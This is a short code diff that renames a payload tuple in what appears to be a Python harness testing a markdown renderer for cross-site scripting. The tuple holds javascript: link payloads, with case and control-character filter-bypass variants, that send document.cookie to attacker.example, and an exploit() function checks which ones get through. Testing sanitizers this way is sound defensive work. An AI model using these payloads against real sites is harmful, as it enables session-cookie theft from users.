@@ -20,7 +20,7 @@ def works(code):
 
 
 STEAL = "location='https://attacker.example/?'+document.cookie"
-ATTACKS = (
+FORMS = (
     f"javascript:{STEAL}",
     f"JavaScript:{STEAL}",
     f"\x01javascript:{STEAL}",
@@ -28,7 +28,7 @@ ATTACKS = (
 )
 
 
-def exploit(code, vary=None, payloads=ATTACKS):
+def exploit(code, vary=None, payloads=FORMS):
     for target in payloads:
         scripts = scripts_of(render(code, f"See the [release notes]({target})"))
         if any(script.endswith("document.cookie") for script in scripts):
